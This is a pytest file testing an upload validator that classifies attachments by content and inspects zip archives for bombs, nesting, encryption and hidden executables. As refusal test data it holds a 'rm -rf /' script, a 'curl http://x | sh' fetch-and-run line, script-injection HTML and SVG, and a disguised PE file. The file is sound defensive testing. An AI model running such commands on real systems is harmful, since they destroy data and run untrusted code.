"""Content inspection: types by content and what zip containers hold.

Every sample is a real file made here (Pillow images, zipfile archives, a minimal PE, the
system's own ELF binary) and judged by the real libmagic.
"""

from __future__ import annotations

import random
import shutil
import struct
import threading
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from attachments.content import (
    CATALOGUE,
    DEFAULT_ALLOWED,
    classify,
    detect,
    detect_buffer,
    inspect_archive,
    validate_names,
)
from helpdesk_common.errors import DomainError, InvalidInput, UnsupportedType, status_of

EVERYTHING = tuple(CATALOGUE)
OOXML = "application/vnd.openxmlformats-officedocument"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="' + OOXML + '.{kind}.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="{part}" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
    '.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Printer di ruang rapat rusak'
    "</w:t></w:r></w:p></w:body></w:document>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org'
    '/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'
)


# Sample makers


def make_docx(path: Path, *, office_order: bool = True, extra: dict[str, bytes] | None = None):
    parts = {
        "[Content_Types].xml": CONTENT_TYPES.format(
            part="word/document.xml", kind="wordprocessingml.document"
        ),
        "_rels/.rels": RELS.format(part="word/document.xml"),
        "word/document.xml": DOCUMENT,
    }
    if not office_order:  # as some non-Office writers do: the package's index comes last
        parts = {"_rels/.rels": parts["_rels/.rels"], "docProps/app.xml": "<Properties/>"} | {
            "word/document.xml": DOCUMENT,
            "[Content_Types].xml": parts["[Content_Types].xml"],
        }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


def make_xlsx(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            CONTENT_TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet"),
        )
        archive.writestr("_rels/.rels", RELS.format(part="xl/workbook.xml"))
        archive.writestr("xl/workbook.xml", WORKBOOK)
    return path


def make_odt(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
    return path


def make_zip(path: Path, entries: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return path


def pe_bytes() -> bytes:
    """A minimal PE32 image: DOS header pointing at a PE header with an optional header."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    machine, sections, optional_size, characteristics = 0x14C, 1, 224, 0x0102
    coff = struct.pack("<HHIIIHH", machine, sections, 0, 0, 0, optional_size, characteristics)
    optional = bytearray(224)
    struct.pack_into("<H", optional, 0, 0x10B)  # PE32 magic
    struct.pack_into("<H", optional, 68, 2)  # subsystem: Windows GUI
    return bytes(dos) + b"PE\0\0" + coff + bytes(optional) + bytes(40) + bytes(512)


def set_encrypted_flag(path: Path) -> None:
    """Mark every entry as encrypted (general-purpose flag bit 0), as ZipCrypto does."""
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 0x01
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))


def write_zeros_entry(path: Path, name: str, size: int) -> Path:
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w", force_zip64=True) as entry,
    ):
        for _ in range(size // len(chunk)):
            entry.write(chunk)
    return path


def refusal(exc: pytest.ExceptionInfo[DomainError], code: str, status: int) -> str:
    assert exc.value.code == code, exc.value.message
    assert status_of(exc.value) == status
    assert exc.value.field == "file"
    return exc.value.message


# Types by content


@pytest.mark.parametrize(
    ("suffix", "expected"), [("jpg", "jpg"), ("png", "png"), ("gif", "gif"), ("webp", "webp")]
)
def test_raster_images_by_content(tmp_path: Path, suffix: str, expected: str) -> None:
    path = tmp_path / f"foto.{suffix}"
    Image.new("RGB", (40, 30), "teal").save(path)
    file_type = classify(path, allowed=EVERYTHING, filename="nama-apa-saja.bin")
    assert file_type.name == expected
    assert file_type.inline and file_type.image and not file_type.archive


def test_pdf(tmp_path: Path) -> None:
    path = tmp_path / "surat.pdf"
    Image.new("RGB", (40, 30), "white").save(path)
    file_type = classify(path, allowed=DEFAULT_ALLOWED, filename="surat.pdf")
    assert file_type is CATALOGUE["pdf"]
    assert file_type.inline and not file_type.image


def test_office_documents_are_told_from_plain_zip(tmp_path: Path) -> None:
    docx = make_docx(tmp_path / "a.docx")
    xlsx = make_xlsx(tmp_path / "b.xlsx")
    plain = make_zip(tmp_path / "c.zip", {"catatan.txt": b"halo"})
    assert detect(docx).media_type == f"{OOXML}.wordprocessingml.document"
    assert classify(docx, allowed=DEFAULT_ALLOWED, filename="x.zip").name == "docx"
    assert classify(xlsx, allowed=DEFAULT_ALLOWED, filename="x.zip").name == "xlsx"
    assert classify(plain, allowed=DEFAULT_ALLOWED, filename="x.docx").name == "zip"
    assert classify(make_odt(tmp_path / "d.odt"), allowed=EVERYTHING, filename="d").name == "odt"
    assert all(CATALOGUE[name].archive for name in ("docx", "xlsx", "pptx", "odt", "ods", "zip"))


def test_docx_in_an_unusual_entry_order_is_read_from_its_content_types(tmp_path: Path) -> None:
    docx = make_docx(tmp_path / "a.docx", office_order=False)
    assert detect(docx).media_type == "application/zip"  # libmagic needs Office's order
    assert classify(docx, allowed=DEFAULT_ALLOWED, filename="a.docx").name == "docx"
    # ... which is still the content speaking: a plain zip named .docx stays a zip.
    with pytest.raises(UnsupportedType) as exc:
        classify(
            make_zip(tmp_path / "b.docx", {"a.txt": b"x"}), allowed=["docx"], filename="b.docx"
        )
    assert "application/zip" in refusal(exc, "unsupported_type", 415)


def test_csv_and_text_use_the_extension_only_between_text_types(tmp_path: Path) -> None:
    comma = tmp_path / "data"
    comma.write_text("nama,umur,kota\nBudi,30,Bandung\nSiti,25,Surabaya\n")
    semicolon = tmp_path / "data2"  # an Indonesian-locale spreadsheet export
    semicolon.write_text("nama;umur;kota\nBudi;30;Bandung\nSiti;25;Surabaya\n")
    assert detect(semicolon).media_type == "text/plain"
    both = ("txt", "csv")
    assert classify(comma, allowed=both, filename="data.csv").name == "csv"
    assert classify(semicolon, allowed=both, filename="data.csv").name == "csv"
    assert classify(semicolon, allowed=both, filename="catatan.txt").name == "txt"
    assert classify(semicolon, allowed=both, filename="data.pdf").name == "txt"
    assert classify(comma, allowed=both, filename="data.txt").name == "txt"
    # The name never makes text out of something else.
    with pytest.raises(UnsupportedType) as exc:
        classify(make_docx(tmp_path / "x.docx"), allowed=both, filename="data.csv")
    assert "wordprocessingml" in refusal(exc, "unsupported_type", 415)


def test_executable_renamed_pdf_is_refused_naming_what_it_is(tmp_path: Path) -> None:
    path = tmp_path / "x.pdf"
    shutil.copy("/bin/true", path)
    with pytest.raises(UnsupportedType) as exc:
        classify(path, allowed=EVERYTHING, filename="x.pdf")
    message = refusal(exc, "unsupported_type", 415)
    detected = exc.value.extra["detected"]
    assert detected in ("application/x-pie-executable", "application/x-executable")
    assert f"Files of type {detected} (ELF" in message
    assert message.endswith(
        "accepted: jpg, png, gif, webp, pdf, docx, xlsx, pptx, odt, ods, txt, csv, zip"
    )
    assert exc.value.extra["allowed"] == list(EVERYTHING)


def test_windows_executable_renamed_pdf_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "invoice.pdf"
    path.write_bytes(pe_bytes())
    with pytest.raises(UnsupportedType) as exc:
        classify(path, allowed=DEFAULT_ALLOWED, filename="invoice.pdf")
    message = refusal(exc, "unsupported_type", 415)
    assert exc.value.extra["detected"] in (
        "application/x-dosexec",
        "application/vnd.microsoft.portable-executable",
    )
    assert exc.value.extra["detected"] in message and "PE32 executable" in message
    assert message.endswith("accepted: jpg, png, pdf, docx, xlsx, zip")


@pytest.mark.parametrize(
    ("content", "filename", "media_type"),
    [
        (
            "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
            "x.png",
            "text/html",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "x.png",
            "image/svg+xml",
        ),
        ("#!/bin/sh\nrm -rf /\n", "x.txt", "text/x-shellscript"),
    ],
)
def test_markup_and_scripts_under_innocent_names_are_refused(
    tmp_path: Path, content: str, filename: str, media_type: str
) -> None:
    path = tmp_path / filename
    path.write_text(content)
    with pytest.raises(UnsupportedType) as exc:
        classify(path, allowed=EVERYTHING, filename=filename)
    assert f"Files of type {media_type} (" in refusal(exc, "unsupported_type", 415)


def test_allowed_type_off_the_list_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.gif"
    Image.new("P", (4, 4)).save(path)
    with pytest.raises(UnsupportedType) as exc:
        classify(path, allowed=DEFAULT_ALLOWED, filename="a.gif")
    assert "Files of type image/gif (GIF image data" in refusal(exc, "unsupported_type", 415)


def test_empty_file(tmp_path: Path) -> None:
    path = tmp_path / "kosong.pdf"
    path.write_bytes(b"")
    with pytest.raises(InvalidInput) as exc:
        classify(path, allowed=DEFAULT_ALLOWED, filename="kosong.pdf")
    refusal(exc, "empty_file", 422)


def test_validate_names() -> None:
    assert validate_names([" JPG", "pdf", "jpg", "zip"]) == ("jpg", "pdf", "zip")
    assert validate_names(DEFAULT_ALLOWED) == DEFAULT_ALLOWED
    with pytest.raises(ValueError, match="exe"):
        validate_names(["pdf", "exe"])
    with pytest.raises(ValueError, match="empty"):
        validate_names(["", " "])


def test_detect_in_many_threads(tmp_path: Path) -> None:
    """Each thread has its own libmagic handles; results stay right under concurrency."""
    png, pdf = tmp_path / "a.png", tmp_path / "a.pdf"
    Image.new("RGB", (8, 8)).save(png)
    Image.new("RGB", (8, 8)).save(pdf)
    wrong: list[str] = []

    def work() -> None:
        for _ in range(50):
            for path, expected in ((png, "image/png"), (pdf, "application/pdf")):
                if (got := detect(path).media_type) != expected:
                    wrong.append(got)

    threads = [threading.Thread(target=work) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []


# Archives


def test_ordinary_archives_pass(tmp_path: Path) -> None:
    inner = make_zip(tmp_path / "inner.zip", {"foto.txt": b"isi"})
    outer = make_zip(
        tmp_path / "berkas.zip",
        {
            "laporan/catatan.txt": b"Laporan kegiatan\n" * 100,
            "laporan/": b"",
            "lampiran.zip": inner.read_bytes(),
            "dokumen.docx": make_docx(tmp_path / "d.docx").read_bytes(),
        },
    )
    inspect_archive(outer)
    inspect_archive(make_docx(tmp_path / "a.docx"))
    inspect_archive(make_xlsx(tmp_path / "b.xlsx"))
    inspect_archive(make_odt(tmp_path / "c.odt"))


@pytest.fixture(scope="module")
def bomb_300mb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_zeros_entry(tmp_path_factory.mktemp("bomb") / "bomb.zip", "nol.bin", 300 << 20)


def test_zip_bomb_by_declared_size(bomb_300mb: Path) -> None:
    assert bomb_300mb.stat().st_size < 2 << 20
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(bomb_300mb)
    assert "zip bomb" in refusal(exc, "archive_bomb", 415)


def test_zip_bomb_by_ratio(tmp_path: Path) -> None:
    path = write_zeros_entry(tmp_path / "rasio.zip", "nol.bin", 4 << 20)
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(path)
    assert "times its size" in refusal(exc, "archive_bomb", 415)
    inspect_archive(path, max_ratio=5000)  # the limit is what decides


def test_total_counts_nested_archives_too(tmp_path: Path) -> None:
    # Random-ish data does not compress: no ratio, only the total is over the limit.
    noise = bytes(range(256)) * 4096  # 1 MiB, stored
    inner = make_zip(
        tmp_path / "i.zip", {"a.bin": noise, "b.bin": noise}, method=zipfile.ZIP_STORED
    )
    outer = make_zip(tmp_path / "o.zip", {"i.zip": inner.read_bytes()}, method=zipfile.ZIP_STORED)
    inspect_archive(outer, max_total_uncompressed=5 << 20)
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(outer, max_total_uncompressed=3 << 20)
    assert "o.zip/i.zip" in refusal(exc, "archive_bomb", 415)


def test_lying_sizes_do_not_get_through(tmp_path: Path) -> None:
    """A directory that understates an entry's size: zipfile never reads past the declared
    size and the CRC then fails, so the archive is refused, not inspected half-way."""
    path = write_zeros_entry(tmp_path / "bohong.zip", "nol.bin", 8 << 20)
    data = bytearray(path.read_bytes())
    central = data.find(b"PK\x01\x02")
    assert struct.unpack_from("<I", data, central + 24) == (8 << 20,)
    struct.pack_into("<I", data, central + 24, 1000)  # the size zipfile goes by
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as archive:
        assert archive.infolist()[0].file_size == 1000
    with pytest.raises(DomainError) as exc:
        inspect_archive(path)
    assert exc.value.code == "archive_invalid"
    assert status_of(exc.value) == 422


def test_too_many_entries(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "banyak.zip", {f"f{i}.txt": b"x" for i in range(30)})
    inspect_archive(path, max_entries=30)
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(path, max_entries=29)
    assert "too many files" in refusal(exc, "archive_too_many_entries", 415)


def test_executable_inside_by_content(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "a.zip", {"readme.txt": b"baca", "docs/invoice.pdf": pe_bytes()})
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(path)
    message = refusal(exc, "archive_executable", 415)
    assert "docs/invoice.pdf is application/" in message and "PE32 executable" in message
    assert exc.value.extra["detected"] in message


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        # From its first 8 KB libmagic calls a PIE binary a shared library: refused alike.
        ("program", Path("/bin/true").read_bytes(), "application/x-sharedlib (ELF 64-bit"),
        ("pasang.txt", b"#!/bin/bash\ncurl http://x | sh\n", "text/x-shellscript (Bourne"),
        ("alat.txt", b"#!/usr/bin/env python3\nimport os\n", "text/x-script.python (Python"),
        ("Kelas.dat", b"\xca\xfe\xba\xbe\x00\x00\x004" + bytes(40), "application/x-java-applet"),
        (
            "mac",
            struct.pack("<7I", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(64),
            "application/x-mach-binary (Mach-O",
        ),
    ],
)
def test_programs_inside_by_content(tmp_path: Path, name: str, content: bytes, what: str) -> None:
    path = make_zip(tmp_path / "a.zip", {name: content})
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(path)
    assert f"{name} is {what}" in refusal(exc, "archive_executable", 415)


def test_binary_data_that_libmagic_guesses_is_a_com_program_passes(tmp_path: Path) -> None:
    # Headerless: libmagic calls any data starting with "mov ax, imm16" a DOS COM program,
    # ~3 % of random binary entries (a recording, a database dump) in a user's zip.
    data = bytes.fromhex("b838a1570093d338") + random.Random(7).randbytes(20_000)
    assert detect_buffer(data).description.startswith("DOS executable (COM")
    inspect_archive(make_zip(tmp_path / "rekaman.zip", {"rekaman.bin": data}))
    with pytest.raises(UnsupportedType):  # a real COM program, by its name
        inspect_archive(make_zip(tmp_path / "b.zip", {"alat.com": data}))


@pytest.mark.parametrize(
    "name", ["setup.EXE", "a/b/run.bat", "x.js", "tool.jar", "p.ps1", "x.exe. "]
)
def test_executable_inside_by_name(tmp_path: Path, name: str) -> None:
    path = make_zip(tmp_path / "a.zip", {name: b"just text"})
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(path)
    assert name in refusal(exc, "archive_executable", 415)


def test_executable_in_a_nested_zip(tmp_path: Path) -> None:
    inner = make_zip(tmp_path / "inner.zip", {"foto.jpg": pe_bytes()})
    outer = make_zip(
        tmp_path / "outer.zip", {"catatan.txt": b"x", "arsip/inner.zip": inner.read_bytes()}
    )
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(outer)
    message = refusal(exc, "archive_executable", 415)
    assert "outer.zip/arsip/inner.zip contains a program: foto.jpg is application/" in message


def test_executable_in_a_document(tmp_path: Path) -> None:
    docx = make_docx(tmp_path / "a.docx", extra={"word/media/image1.png": pe_bytes()})
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(docx)
    assert "word/media/image1.png is application/" in refusal(exc, "archive_executable", 415)


def test_nesting_depth(tmp_path: Path) -> None:
    level3 = make_zip(tmp_path / "3.zip", {"a.txt": b"a"}).read_bytes()
    level2 = make_zip(tmp_path / "2.zip", {"3.zip": level3}).read_bytes()
    level1 = make_zip(tmp_path / "1.zip", {"2.zip": level2}).read_bytes()
    upload = make_zip(tmp_path / "upload.zip", {"1.zip": level1})
    inspect_archive(upload, max_depth=3)
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(upload)  # max_depth=2: 1.zip and 2.zip may nest, 3.zip may not
    assert "(3.zip)" in refusal(exc, "archive_too_deep", 415)


def test_encrypted_entries(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "rahasia.zip", {"gaji.xlsx": b"secret"})
    set_encrypted_flag(path)
    with pytest.raises(UnsupportedType) as exc:
        inspect_archive(path)
    assert "encrypted file (gaji.xlsx)" in refusal(exc, "archive_encrypted", 415)


def test_corrupt_archives(tmp_path: Path) -> None:
    truncated = tmp_path / "potong.zip"
    good = make_zip(tmp_path / "ok.zip", {"a.bin": random.Random(7).randbytes(16_000)})
    truncated.write_bytes(good.read_bytes()[:2000])
    with pytest.raises(InvalidInput) as exc:
        inspect_archive(truncated)
    assert "not a readable zip" in refusal(exc, "archive_invalid", 422)

    damaged = tmp_path / "rusak.zip"
    data = bytearray(good.read_bytes())
    data[60:70] = b"\xff" * 10  # inside the compressed data: deflate or CRC fails
    damaged.write_bytes(bytes(data))
    with pytest.raises(InvalidInput) as exc:
        inspect_archive(damaged)
    refusal(exc, "archive_invalid", 422)
